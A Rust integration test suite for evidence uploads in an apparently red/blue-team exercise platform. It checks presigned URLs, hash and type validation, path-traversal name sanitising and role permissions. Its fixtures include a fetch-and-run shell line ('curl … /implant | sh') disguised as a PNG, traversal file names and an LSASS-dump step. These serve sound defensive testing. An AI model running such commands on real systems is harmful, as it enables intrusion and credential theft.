//! Evidence files end to end, one suite over both stores: the local disk (Aegis serves the signed URLs) and
//! a real S3-compatible server, s3s-fs, which checks SigV4 signatures and presigned expiry (started here on a
//! free port from `$AEGIS_S3_SERVER` or `target/s3s-fs/bin/s3s-fs`; `deploy/dev/ensure-s3` installs it).
//! Files go through presigned URLs with a plain HTTP client, as a browser or script would send them.
#![allow(clippy::unwrap_used)]
// Scenario tests read top to bottom; the upload helper takes what a client declares.
#![allow(
    clippy::too_many_lines,
    clippy::too_many_arguments,
    clippy::similar_names
)]

mod support;

use std::path::PathBuf;
use std::process::{Child, Command, Output};
use std::sync::Arc;
use std::time::Duration;

use api::http::app;
use api::state::{AppState, EvidenceBackend};
use commands::evidence::EvidenceSettings;
use commands::evidence::store::{
    Disposition, EvidenceStore, LocalDiskStore, ObjectKey, S3Settings, S3Store,
};
use domain::role::Role;
use serde_json::Value;
use sha2::Digest;
use sqlx::postgres::PgConnectOptions;
use sqlx::{ConnectOptions, PgPool};
use support::{error_code, graphql, signed_in, state};
use uuid::Uuid;

const ACCESS_KEY: &str = "AKIAAEGISTEST";
const SECRET_KEY: &str = "aegis-test-secret-key";
const BUCKET: &str = "aegis-evidence";
/// Small, so that "too large" needs no large file.
const MAX_BYTES: u64 = 1024 * 1024;

const PNG: &[u8] =
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Backend {
    Local,
    S3,
}

/// An s3s-fs process on a free port, with its own data directory; killed when dropped.
struct S3Server {
    child: Child,
    endpoint: String,
    data: tempfile::TempDir,
}

impl Drop for S3Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn s3_server_path() -> PathBuf {
    std::env::var_os("AEGIS_S3_SERVER").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../target/s3s-fs/bin/s3s-fs"),
        PathBuf::from,
    )
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

async fn start_s3() -> S3Server {
    let path = s3_server_path();
    assert!(
        path.exists(),
        "no S3 server at {}: run deploy/dev/ensure-s3 (or set AEGIS_S3_SERVER)",
        path.display()
    );
    let data = tempfile::tempdir().unwrap();
    let port = free_port();
    let child = Command::new(&path)
        .args(["--host", "127.0.0.1", "--port", &port.to_string()])
        .args(["--access-key", ACCESS_KEY, "--secret-key", SECRET_KEY])
        .arg(data.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    for _ in 0..100 {
        if tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_ok()
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    S3Server {
        child,
        endpoint: format!("http://127.0.0.1:{port}"),
        data,
    }
}

fn s3_settings(endpoint: &str) -> S3Settings {
    S3Settings {
        endpoint: endpoint.to_owned(),
        region: "us-east-1".to_owned(),
        bucket: BUCKET.to_owned(),
        path_style: true,
        access_key: ACCESS_KEY.to_owned(),
        secret_key: SECRET_KEY.to_owned(),
        create_bucket: true,
    }
}

/// The application with evidence on `backend`, also served on a real port (the local store's URLs point at
/// it); the test's data directory holds the local store under `evidence/`, as `aegis` would.
struct Harness {
    state: AppState,
    store: Arc<dyn EvidenceStore>,
    backend: Backend,
    data_dir: tempfile::TempDir,
    s3: Option<S3Server>,
    http: reqwest::Client,
}

impl Harness {
    async fn start(pool: &PgPool, backend: Backend) -> Self {
        let _ = rustls::crypto::ring::default_provider().install_default();
        let data_dir = tempfile::tempdir().unwrap();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let (store, evidence_backend, s3): (Arc<dyn EvidenceStore>, _, _) = match backend {
            Backend::Local => {
                let local = Arc::new(
                    LocalDiskStore::open(
                        &data_dir.path().join("evidence"),
                        &format!("http://{address}"),
                    )
                    .unwrap(),
                );
                (local.clone(), EvidenceBackend::Local(local), None)
            }
            Backend::S3 => {
                let server = start_s3().await;
                let s3 = Arc::new(
                    S3Store::connect(s3_settings(&server.endpoint))
                        .await
                        .unwrap(),
                );
                (s3.clone(), EvidenceBackend::S3(s3), Some(server))
            }
        };
        let settings = EvidenceSettings {
            max_bytes: MAX_BYTES,
            ..EvidenceSettings::default()
        };
        let state = state(pool).with_evidence(evidence_backend, settings);
        let router = app(state.clone());
        tokio::spawn(async move { axum::serve(listener, router).await });
        Self {
            state,
            store,
            backend,
            data_dir,
            s3,
            http: reqwest::Client::new(),
        }
    }

    /// Where the bytes of `key` are on disk (the S3 server keeps them as files too), to tamper with them.
    fn file_of(&self, key: &str) -> PathBuf {
        match &self.s3 {
            Some(server) => server.data.path().join(BUCKET).join(key),
            None => self.data_dir.path().join("evidence").join(key),
        }
    }

    /// `aegis evidence verify` against this test's database and store.
    fn verify_cli(&self, pool: &PgPool) -> Output {
        let base: PgConnectOptions = std::env::var("DATABASE_URL").unwrap().parse().unwrap();
        let name = pool.connect_options().get_database().unwrap().to_owned();
        let mut command = Command::new(env!("CARGO_BIN_EXE_aegis"));
        command
            .args(["evidence", "verify"])
            .env(
                "DATABASE_URL",
                base.database(&name).to_url_lossy().to_string(),
            )
            .env("AEGIS_DATA_DIR", self.data_dir.path())
            .env("AEGIS_LOG_FORMAT", "json");
        if let Some(server) = &self.s3 {
            command
                .env("AEGIS_S3_ENDPOINT", &server.endpoint)
                .env("AEGIS_S3_BUCKET", BUCKET)
                .env("AEGIS_S3_ACCESS_KEY", ACCESS_KEY)
                .env("AEGIS_S3_SECRET_KEY", SECRET_KEY);
        }
        command.output().unwrap()
    }

    async fn put(&self, url: &str, body: Vec<u8>) -> reqwest::StatusCode {
        self.http.put(url).body(body).send().await.unwrap().status()
    }
}

fn sha256(bytes: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(bytes))
}

fn data<'a>(response: &'a Value, name: &str) -> &'a Value {
    assert!(response.get("errors").is_none(), "{response}");
    &response["data"][name]
}

fn reason(response: &Value) -> Option<&str> {
    response["errors"][0]["extensions"]["reason"].as_str()
}

/// Users of every role, and a test case that red is executing (blind when asked).
struct Team {
    red_lead: String,
    red_tech: String,
    blue_lead: String,
    blue_tech: String,
    viewer: String,
    admin: String,
}

async fn team(state: &AppState) -> (Team, Uuid, Uuid) {
    let (_, red_lead) = signed_in(state, &[Role::RedLead]).await;
    let (red_tech_id, red_tech) = signed_in(state, &[Role::RedTech]).await;
    let (_, blue_lead) = signed_in(state, &[Role::BlueLead]).await;
    let (blue_tech_id, blue_tech) = signed_in(state, &[Role::BlueTech]).await;
    let (_, viewer) = signed_in(state, &[Role::Viewer]).await;
    let (_, admin) = signed_in(state, &[Role::Admin]).await;
    (
        Team {
            red_lead,
            red_tech,
            blue_lead,
            blue_tech,
            viewer,
            admin,
        },
        red_tech_id,
        blue_tech_id,
    )
}

async fn executing_test_case(
    state: &AppState,
    team: &Team,
    red: Uuid,
    blue: Uuid,
    blind: bool,
) -> Uuid {
    let planned = graphql(
        state,
        Some(&team.red_lead),
        &format!(
            r#"mutation {{ planTestCase(plan: {{ title: "LSASS dump", objective: "blocked", technique: "T1003.001",
                procedure: {{ kind: MANUAL }}, steps: "rundll32 comsvcs.dll MiniDump", blind: {blind} }}) {{ id }} }}"#
        ),
    )
    .await;
    let id: Uuid = data(&planned, "planTestCase")["id"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    let run = |token: &str, mutation: String| {
        let token = token.to_owned();
        async move {
            let response = graphql(state, Some(&token), &mutation).await;
            assert!(response.get("errors").is_none(), "{mutation}: {response}");
        }
    };
    run(
        &team.red_lead,
        format!(r#"mutation {{ assignTestCase(id: "{id}", redAssignee: "{red}") {{ id }} }}"#),
    )
    .await;
    run(
        &team.blue_lead,
        format!(r#"mutation {{ assignTestCase(id: "{id}", blueAssignee: "{blue}") {{ id }} }}"#),
    )
    .await;
    run(
        &team.red_tech,
        format!(r#"mutation {{ startExecution(id: "{id}") {{ id }} }}"#),
    )
    .await;
    id
}

async fn to_review(state: &AppState, team: &Team, id: Uuid) {
    for (token, mutation) in [
        (
            &team.red_tech,
            format!(
                r#"mutation {{ recordExecution(id: "{id}", execution: {{ command: "rundll32", target: "ws-1",
                    startedAt: "2026-11-20T10:00:00Z", stoppedAt: "2026-11-20T10:00:05Z" }}) {{ id }} }}"#
            ),
        ),
        (
            &team.red_tech,
            format!(r#"mutation {{ completeExecution(id: "{id}") {{ id }} }}"#),
        ),
        (
            &team.blue_tech,
            format!(r#"mutation {{ startReview(id: "{id}") {{ id }} }}"#),
        ),
    ] {
        let response = graphql(state, Some(token), &mutation).await;
        assert!(response.get("errors").is_none(), "{response}");
    }
}

fn request_upload(
    id: Uuid,
    side: &str,
    name: &str,
    content_type: &str,
    size: u64,
    digest: &str,
) -> String {
    let name = serde_json::to_string(name).unwrap();
    format!(
        r#"mutation {{ requestEvidenceUpload(testCaseId: "{id}", side: {side}, fileName: {name},
            contentType: "{content_type}", size: "{size}", sha256: "{digest}") {{ uploadId method url expiresAt fileName contentType }} }}"#
    )
}

fn confirm(upload_id: &str) -> String {
    format!(
        r#"mutation {{ confirmEvidenceUpload(id: "{upload_id}") {{ evidenceId testCaseId side fileName contentType size sha256 replayed }} }}"#
    )
}

fn download(evidence_id: &str) -> String {
    format!(
        r#"{{ evidenceDownloadUrl(id: "{evidence_id}") {{ url expiresAt fileName contentType }} }}"#
    )
}

/// Requests an upload for `bytes` as declared, PUTs `bytes`, and returns the upload id and the PUT status.
/// The upload ticket (`uploadId`, `url`, `method`…) the caller of `token` gets for a file declared as
/// `declared` (size, SHA-256).
async fn ticket(
    state: &AppState,
    token: &str,
    id: Uuid,
    side: &str,
    name: &str,
    content_type: &str,
    declared: (u64, &str),
) -> Value {
    let requested = graphql(
        state,
        Some(token),
        &request_upload(id, side, name, content_type, declared.0, declared.1),
    )
    .await;
    data(&requested, "requestEvidenceUpload").clone()
}

async fn upload(
    harness: &Harness,
    token: &str,
    id: Uuid,
    side: &str,
    name: &str,
    content_type: &str,
    declared: (u64, &str),
    bytes: &[u8],
) -> (String, reqwest::StatusCode) {
    let ticket = ticket(
        &harness.state,
        token,
        id,
        side,
        name,
        content_type,
        declared,
    )
    .await;
    assert_eq!(ticket["method"], "PUT");
    let url = ticket["url"].as_str().unwrap();
    assert!(url.contains("quarantine/"), "{url}");
    let status = harness.put(url, bytes.to_vec()).await;
    (ticket["uploadId"].as_str().unwrap().to_owned(), status)
}

// ---------------------------------------------------------------------------------------------------------
// The behaviour, once per backend.

async fn a_file_goes_up_is_verified_attached_downloaded_and_its_tampering_detected(
    pool: PgPool,
    backend: Backend,
) {
    let harness = Harness::start(&pool, backend).await;
    let state = &harness.state;
    let (team, red, blue) = team(state).await;
    let id = executing_test_case(state, &team, red, blue, false).await;

    let digest = sha256(PNG);
    let (upload_id, status) = upload(
        &harness,
        &team.red_tech,
        id,
        "RED",
        "C:\\Users\\red\\screen shot.png",
        "image/png",
        (PNG.len() as u64, &digest),
        PNG,
    )
    .await;
    assert!(status.is_success(), "{status}");
    let confirmed = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
    let confirmed = data(&confirmed, "confirmEvidenceUpload").clone();
    assert_eq!(confirmed["evidenceId"], upload_id.as_str());
    assert_eq!(confirmed["side"], "RED");
    assert_eq!(
        confirmed["fileName"], "screen shot.png",
        "sanitised: the last path component"
    );
    assert_eq!(confirmed["contentType"], "image/png");
    assert_eq!(confirmed["size"], PNG.len().to_string());
    assert_eq!(confirmed["sha256"], digest.as_str());
    assert_eq!(confirmed["replayed"], false);
    // Confirming again is harmless and says so.
    let again = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
    assert_eq!(data(&again, "confirmEvidenceUpload")["replayed"], true);

    // The event carries what was verified, and the object left quarantine.
    let evidence_id: Uuid = upload_id.parse().unwrap();
    let key = ObjectKey::evidence(id, evidence_id);
    let history = graphql(
        state,
        Some(&team.admin),
        &format!(r#"{{ history(kind: TEST_CASE, id: "{id}") {{ eventType payload }} }}"#),
    )
    .await;
    let events = data(&history, "history").as_array().unwrap().clone();
    let attached = events
        .iter()
        .find(|event| event["eventType"] == "TestCaseEvidenceAttached")
        .unwrap();
    let payload = &attached["payload"]["EvidenceAttached"];
    assert_eq!(payload["side"], "red");
    assert_eq!(payload["evidence"]["stored"]["key"], key.as_str());
    assert_eq!(payload["evidence"]["stored"]["size"], PNG.len());
    assert_eq!(payload["evidence"]["stored"]["content_type"], "image/png");
    assert!(harness.file_of(key.as_str()).exists());
    assert!(
        !harness
            .file_of(ObjectKey::quarantine(id, evidence_id).as_str())
            .exists()
    );

    // Download: a short-lived link, as an attachment under the sanitised name.
    let link = graphql(state, Some(&team.blue_lead), &download(&upload_id)).await;
    let link = data(&link, "evidenceDownloadUrl").clone();
    let expires_at: chrono::DateTime<chrono::Utc> =
        link["expiresAt"].as_str().unwrap().parse().unwrap();
    assert!(expires_at <= chrono::Utc::now() + chrono::TimeDelta::minutes(5));
    let response = harness
        .http
        .get(link["url"].as_str().unwrap())
        .send()
        .await
        .unwrap();
    assert!(response.status().is_success(), "{}", response.status());
    let disposition = response.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert!(disposition.contains("screen%20shot.png"), "{disposition}");
    assert_eq!(response.bytes().await.unwrap().as_ref(), PNG);

    // Removal is an event; the file stays and still verifies.
    let removed = graphql(
        state,
        Some(&team.red_tech),
        &format!(
            r#"mutation {{ removeEvidence(id: "{id}", evidenceId: "{upload_id}") {{ id }} }}"#
        ),
    )
    .await;
    data(&removed, "removeEvidence");
    assert!(harness.file_of(key.as_str()).exists());
    let history = graphql(
        state,
        Some(&team.admin),
        &format!(r#"{{ history(kind: TEST_CASE, id: "{id}") {{ eventType }} }}"#),
    )
    .await;
    let types: Vec<String> = data(&history, "history")
        .as_array()
        .unwrap()
        .iter()
        .map(|event| event["eventType"].as_str().unwrap().to_owned())
        .collect();
    assert!(types.contains(&"TestCaseEvidenceAttached".to_owned()));
    assert!(types.contains(&"TestCaseEvidenceRemoved".to_owned()));
    let verified = harness.verify_cli(&pool);
    let stdout = String::from_utf8_lossy(&verified.stdout).into_owned();
    assert!(
        verified.status.success(),
        "{stdout} {}",
        String::from_utf8_lossy(&verified.stderr)
    );
    assert!(stdout.starts_with("OK: 1 evidence objects"), "{stdout}");

    // Someone swaps the stored file: `aegis evidence verify` names it and fails.
    std::fs::write(harness.file_of(key.as_str()), b"\x89PNG\r\n\x1a\n forged").unwrap();
    let verified = harness.verify_cli(&pool);
    let stdout = String::from_utf8_lossy(&verified.stdout).into_owned();
    assert_eq!(verified.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains(&format!("MISMATCH: evidence {upload_id}")),
        "{stdout}"
    );
    assert!(stdout.contains("FAILED: 1 of 1"), "{stdout}");
}

async fn expired_and_forged_urls_are_refused(pool: PgPool, backend: Backend) {
    let harness = Harness::start(&pool, backend).await;
    let test_case = Uuid::now_v7();
    let key = ObjectKey::quarantine(test_case, Uuid::now_v7());

    // A URL whose signature was altered is refused: the server checks signatures.
    let url = harness
        .store
        .upload_url(&key, 4, Duration::from_secs(60))
        .await
        .unwrap();
    let forged = forge(&url);
    assert_eq!(
        harness.put(&forged, b"data".to_vec()).await.as_u16(),
        403,
        "{forged}"
    );

    // An expired upload URL is refused.
    let url = harness
        .store
        .upload_url(&key, 4, Duration::from_secs(1))
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(2_100)).await;
    assert_eq!(harness.put(&url, b"data".to_vec()).await.as_u16(), 403);

    // So is an expired download URL (of an object that exists).
    let url = harness
        .store
        .upload_url(&key, 4, Duration::from_secs(60))
        .await
        .unwrap();
    assert!(harness.put(&url, b"data".to_vec()).await.is_success());
    let attached = ObjectKey::evidence(test_case, Uuid::now_v7());
    harness.store.rename(&key, &attached).await.unwrap();
    let disposition = Disposition {
        file_name: "x.txt".to_owned(),
        content_type: "text/plain".to_owned(),
    };
    let url = harness
        .store
        .download_url(&attached, &disposition, Duration::from_secs(1))
        .await
        .unwrap();
    assert!(
        harness
            .http
            .get(&url)
            .send()
            .await
            .unwrap()
            .status()
            .is_success()
    );
    tokio::time::sleep(Duration::from_millis(2_100)).await;
    assert_eq!(
        harness
            .http
            .get(&url)
            .send()
            .await
            .unwrap()
            .status()
            .as_u16(),
        403
    );
}

/// The same URL with one hexadecimal digit of its signature changed.
fn forge(url: &str) -> String {
    let marker = if url.contains("X-Amz-Signature=") {
        "X-Amz-Signature="
    } else {
        "signature="
    };
    let at = url.find(marker).unwrap() + marker.len();
    let digit = if &url[at..=at] == "0" { "1" } else { "0" };
    format!("{}{digit}{}", &url[..at], &url[at + 1..])
}

async fn bad_files_are_rejected(pool: PgPool, backend: Backend) {
    let harness = Harness::start(&pool, backend).await;
    let state = &harness.state;
    let (team, red, blue) = team(state).await;
    let id = executing_test_case(state, &team, red, blue, false).await;
    let log = b"2026-11-20 10:00:00 lsass access denied\n".to_vec();

    // A declared hash that is not the file's.
    let (upload_id, status) = upload(
        &harness,
        &team.red_tech,
        id,
        "RED",
        "output.log",
        "text/plain",
        (log.len() as u64, &sha256(b"something else")),
        &log,
    )
    .await;
    assert!(status.is_success());
    let refused = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
    assert_eq!(error_code(&refused), Some("VALIDATION"), "{refused}");
    assert_eq!(reason(&refused), Some("HASH_MISMATCH"));
    let evidence_id: Uuid = upload_id.parse().unwrap();
    assert!(
        !harness
            .file_of(ObjectKey::quarantine(id, evidence_id).as_str())
            .exists(),
        "a rejected upload's bytes are dropped"
    );
    let again = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
    assert_eq!(reason(&again), Some("UPLOAD_REJECTED"), "{again}");

    // A script renamed .png.
    let script = b"#!/bin/sh\ncurl -s http://203.0.113.7/implant | sh\n".to_vec();
    let (upload_id, status) = upload(
        &harness,
        &team.red_tech,
        id,
        "RED",
        "screenshot.png",
        "image/png",
        (script.len() as u64, &sha256(&script)),
        &script,
    )
    .await;
    assert!(status.is_success());
    let refused = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
    assert_eq!(reason(&refused), Some("CONTENT_MISMATCH"), "{refused}");
    // …nor may it pass as text under a .png name.
    let refused = graphql(
        state,
        Some(&team.red_tech),
        &request_upload(id, "RED", "screenshot.png", "text/plain", 10, &sha256(b"x")),
    )
    .await;
    assert_eq!(reason(&refused), Some("TYPE_MISMATCH"), "{refused}");
    // A type off the allow-list.
    let refused = graphql(
        state,
        Some(&team.red_tech),
        &request_upload(
            id,
            "RED",
            "implant.sh",
            "application/x-sh",
            10,
            &sha256(b"x"),
        ),
    )
    .await;
    assert_eq!(reason(&refused), Some("UNSUPPORTED_TYPE"), "{refused}");

    // Oversized: refused before any URL is handed out…
    let refused = graphql(
        state,
        Some(&team.red_tech),
        &request_upload(
            id,
            "RED",
            "big.log",
            "text/plain",
            MAX_BYTES + 1,
            &sha256(b"x"),
        ),
    )
    .await;
    assert_eq!(error_code(&refused), Some("VALIDATION"), "{refused}");
    assert_eq!(reason(&refused), Some("TOO_LARGE"));
    // …and more bytes than declared never become evidence: the local endpoint stops the upload, S3 takes
    // it and the confirmation refuses it.
    let bigger = vec![b'a'; 64 * 1024];
    let (upload_id, status) = upload(
        &harness,
        &team.red_tech,
        id,
        "RED",
        "small.log",
        "text/plain",
        (10, &sha256(&bigger[..10])),
        &bigger,
    )
    .await;
    match harness.backend {
        Backend::Local => assert_eq!(status.as_u16(), 413),
        Backend::S3 => assert!(status.is_success()),
    }
    let refused = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
    let expected = match harness.backend {
        Backend::Local => "NOT_UPLOADED",
        Backend::S3 => "SIZE_MISMATCH",
    };
    assert_eq!(reason(&refused), Some(expected), "{refused}");

    // Confirming before uploading says so, and the upload can still follow.
    let ticket = ticket(
        state,
        &team.red_tech,
        id,
        "RED",
        "later.log",
        "text/plain",
        (log.len() as u64, &sha256(&log)),
    )
    .await;
    let upload_id = ticket["uploadId"].as_str().unwrap();
    let early = graphql(state, Some(&team.red_tech), &confirm(upload_id)).await;
    assert_eq!(reason(&early), Some("NOT_UPLOADED"), "{early}");
    assert!(
        harness
            .put(ticket["url"].as_str().unwrap(), log.clone())
            .await
            .is_success()
    );
    let confirmed = graphql(state, Some(&team.red_tech), &confirm(upload_id)).await;
    assert_eq!(
        data(&confirmed, "confirmEvidenceUpload")["contentType"],
        "text/plain"
    );
}

async fn hostile_names_empty_files_and_replayed_urls_change_nothing(
    pool: PgPool,
    backend: Backend,
) {
    let harness = Harness::start(&pool, backend).await;
    let state = &harness.state;
    let (team, red, blue) = team(state).await;
    let id = executing_test_case(state, &team, red, blue, false).await;
    let log = b"2026-11-20 10:00:00 lsass access denied\n".to_vec();

    // Path traversal names keep only their last component without leading dots, and the bytes are stored under
    // the evidence's own key, never under a name the client chose.
    for name in [
        "../../../../etc/cron.d/evil.log",
        "..\\..\\..\\Windows\\System32\\evil.log",
        "....//....//evil.log",
        "/var/lib/aegis/evidence/evil.log",
        "..evil.log",
    ] {
        let (upload_id, status) = upload(
            &harness,
            &team.red_tech,
            id,
            "RED",
            name,
            "text/plain",
            (log.len() as u64, &sha256(&log)),
            &log,
        )
        .await;
        assert!(status.is_success(), "{name}: {status}");
        let confirmed = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
        assert_eq!(
            data(&confirmed, "confirmEvidenceUpload")["fileName"],
            "evil.log",
            "{name}"
        );
        let key = ObjectKey::evidence(id, upload_id.parse().unwrap());
        assert_eq!(std::fs::read(harness.file_of(key.as_str())).unwrap(), log);
    }
    // Names that are nothing but a path are refused before any URL is handed out.
    for name in ["..", "../..", "/", "..\\"] {
        let refused = graphql(
            state,
            Some(&team.red_tech),
            &request_upload(id, "RED", name, "text/plain", 10, &sha256(b"x")),
        )
        .await;
        assert_eq!(
            error_code(&refused),
            Some("VALIDATION"),
            "{name}: {refused}"
        );
    }

    // Zero bytes: refused when declared, and an upload that sends nothing never becomes evidence.
    let refused = graphql(
        state,
        Some(&team.red_tech),
        &request_upload(id, "RED", "empty.log", "text/plain", 0, &sha256(b"")),
    )
    .await;
    assert_eq!(reason(&refused), Some("EMPTY_FILE"), "{refused}");
    let (upload_id, _) = upload(
        &harness,
        &team.red_tech,
        id,
        "RED",
        "nothing.log",
        "text/plain",
        (log.len() as u64, &sha256(&log)),
        b"",
    )
    .await;
    let refused = graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await;
    assert_eq!(error_code(&refused), Some("VALIDATION"), "{refused}");

    // A replayed upload URL: the same URL used again after the evidence was attached, with other bytes. The
    // evidence keeps the bytes it was confirmed with, confirming again changes nothing, and the store verifies.
    let ticket = ticket(
        state,
        &team.red_tech,
        id,
        "RED",
        "replayed.log",
        "text/plain",
        (log.len() as u64, &sha256(&log)),
    )
    .await;
    let (url, upload_id) = (
        ticket["url"].as_str().unwrap(),
        ticket["uploadId"].as_str().unwrap(),
    );
    assert!(harness.put(url, log.clone()).await.is_success());
    let confirmed = graphql(state, Some(&team.red_tech), &confirm(upload_id)).await;
    assert_eq!(data(&confirmed, "confirmEvidenceUpload")["replayed"], false);
    let forged = vec![b'X'; log.len()];
    let replayed_put = harness.put(url, forged.clone()).await;
    let again = graphql(state, Some(&team.red_tech), &confirm(upload_id)).await;
    assert_eq!(
        data(&again, "confirmEvidenceUpload")["sha256"],
        sha256(&log).as_str(),
        "replayed PUT answered {replayed_put}"
    );
    let link = graphql(state, Some(&team.red_tech), &download(upload_id)).await;
    let url = data(&link, "evidenceDownloadUrl")["url"]
        .as_str()
        .unwrap()
        .to_owned();
    let downloaded = harness.http.get(&url).send().await.unwrap();
    assert_eq!(downloaded.bytes().await.unwrap().as_ref(), log.as_slice());
    let verified = harness.verify_cli(&pool);
    assert_eq!(
        verified.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&verified.stdout)
    );
    eprintln!("{backend:?}: a replayed upload URL answered {replayed_put}");
}

macro_rules! both_backends {
    ($($scenario:ident),* $(,)?) => {
        mod local {
            use super::*;
            $(
                #[sqlx::test(migrations = "../migrations")]
                async fn $scenario(pool: PgPool) {
                    super::$scenario(pool, Backend::Local).await;
                }
            )*
        }
        mod s3 {
            use super::*;
            $(
                #[sqlx::test(migrations = "../migrations")]
                async fn $scenario(pool: PgPool) {
                    super::$scenario(pool, Backend::S3).await;
                }
            )*
        }
    };
}

both_backends!(
    a_file_goes_up_is_verified_attached_downloaded_and_its_tampering_detected,
    expired_and_forged_urls_are_refused,
    bad_files_are_rejected,
    hostile_names_empty_files_and_replayed_urls_change_nothing,
);

// ---------------------------------------------------------------------------------------------------------
// Who may do what (the same on both stores; run on the local one).

#[sqlx::test(migrations = "../migrations")]
async fn each_role_and_side_may_attach_only_in_its_own_state(pool: PgPool) {
    let harness = Harness::start(&pool, Backend::Local).await;
    let state = &harness.state;
    let (team, red, blue) = team(state).await;
    let id = executing_test_case(state, &team, red, blue, false).await;
    let digest = sha256(PNG);
    let ask = |token: &str, side: &str| {
        let token = token.to_owned();
        let query = request_upload(id, side, "a.png", "image/png", PNG.len() as u64, &digest);
        async move { graphql(state, Some(&token), &query).await }
    };

    // Executing: red's evidence, from red and admins.
    for token in [&team.red_tech, &team.red_lead, &team.admin] {
        data(&ask(token, "RED").await, "requestEvidenceUpload");
    }
    for token in [&team.blue_tech, &team.blue_lead] {
        let refused = ask(token, "BLUE").await;
        assert_eq!(error_code(&refused), Some("FORBIDDEN"), "{refused}");
        assert_eq!(reason(&refused), Some("ROLE_REQUIRED"));
    }
    let refused = ask(&team.viewer, "RED").await;
    assert_eq!(error_code(&refused), Some("FORBIDDEN"), "{refused}");
    let refused = ask(&team.red_tech, "BLUE").await;
    assert_eq!(reason(&refused), Some("WRONG_SIDE"), "{refused}");

    // Only the uploader confirms.
    let (upload_id, _) = upload(
        &harness,
        &team.red_tech,
        id,
        "RED",
        "a.png",
        "image/png",
        (PNG.len() as u64, &digest),
        PNG,
    )
    .await;
    let refused = graphql(state, Some(&team.red_lead), &confirm(&upload_id)).await;
    assert_eq!(error_code(&refused), Some("FORBIDDEN"), "{refused}");
    assert_eq!(reason(&refused), Some("NOT_UPLOADER"));
    data(
        &graphql(state, Some(&team.red_tech), &confirm(&upload_id)).await,
        "confirmEvidenceUpload",
    );

    // Reviewing: blue's evidence, from blue; red's turn is over.
    to_review(state, &team, id).await;
    for token in [&team.blue_tech, &team.blue_lead, &team.admin] {
        data(&ask(token, "BLUE").await, "requestEvidenceUpload");
    }
    for token in [&team.red_tech, &team.red_lead] {
        let refused = ask(token, "RED").await;
        assert_eq!(error_code(&refused), Some("FORBIDDEN"), "{refused}");
    }

    // A test case not being worked on takes no evidence.
    let planned = graphql(
        state,
        Some(&team.red_lead),
        r#"mutation { planTestCase(plan: { title: "Later", objective: "", technique: "T1059",
            procedure: { kind: MANUAL }, steps: "" }) { id } }"#,
    )
    .await;
    let planned_id: Uuid = data(&planned, "planTestCase")["id"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    let refused = graphql(
        state,
        Some(&team.red_lead),
        &request_upload(planned_id, "RED", "a.png", "image/png", 10, &digest),
    )
    .await;
    assert_eq!(reason(&refused), Some("WRONG_STATE"), "{refused}");
    let refused = graphql(
        state,
        Some(&team.red_lead),
        &request_upload(Uuid::now_v7(), "RED", "a.png", "image/png", 10, &digest),
    )
    .await;
    assert_eq!(error_code(&refused), Some("NOT_FOUND"), "{refused}");
}

#[sqlx::test(migrations = "../migrations")]
async fn blue_cannot_fetch_reds_evidence_of_a_blind_test_before_the_reveal(pool: PgPool) {
    let harness = Harness::start(&pool, Backend::Local).await;
    let state = &harness.state;
    let (team, red, blue) = team(state).await;
    let id = executing_test_case(state, &team, red, blue, true).await;
    let digest = sha256(PNG);
    let attach = |token: String, side: &'static str| {
        let harness = &harness;
        let digest = digest.clone();
        async move {
            let (upload_id, _) = upload(
                harness,
                &token,
                id,
                side,
                "proof.png",
                "image/png",
                (PNG.len() as u64, &digest),
                PNG,
            )
            .await;
            data(
                &graphql(&harness.state, Some(&token), &confirm(&upload_id)).await,
                "confirmEvidenceUpload",
            );
            upload_id
        }
    };
    let red_evidence = attach(team.red_tech.clone(), "RED").await;
    to_review(state, &team, id).await;
    let blue_evidence = attach(team.blue_tech.clone(), "BLUE").await;

    for token in [&team.blue_tech, &team.blue_lead] {
        let refused = graphql(state, Some(token), &download(&red_evidence)).await;
        assert_eq!(error_code(&refused), Some("FORBIDDEN"), "{refused}");
        data(
            &graphql(state, Some(token), &download(&blue_evidence)).await,
            "evidenceDownloadUrl",
        );
    }
    for token in [&team.red_tech, &team.red_lead, &team.viewer, &team.admin] {
        for evidence in [&red_evidence, &blue_evidence] {
            data(
                &graphql(state, Some(token), &download(evidence)).await,
                "evidenceDownloadUrl",
            );
        }
    }
    let unknown = graphql(
        state,
        Some(&team.red_lead),
        &download(&Uuid::now_v7().to_string()),
    )
    .await;
    assert_eq!(error_code(&unknown), Some("NOT_FOUND"), "{unknown}");

    let revealed = graphql(
        state,
        Some(&team.red_lead),
        &format!(r#"mutation {{ revealToBlue(id: "{id}") {{ id }} }}"#),
    )
    .await;
    data(&revealed, "revealToBlue");
    data(
        &graphql(state, Some(&team.blue_tech), &download(&red_evidence)).await,
        "evidenceDownloadUrl",
    );
}

/// The S3 server goes away between the upload and its confirmation: the confirmation fails with a clear
/// error, no event names the object, and once S3 is back the same confirmation attaches it.
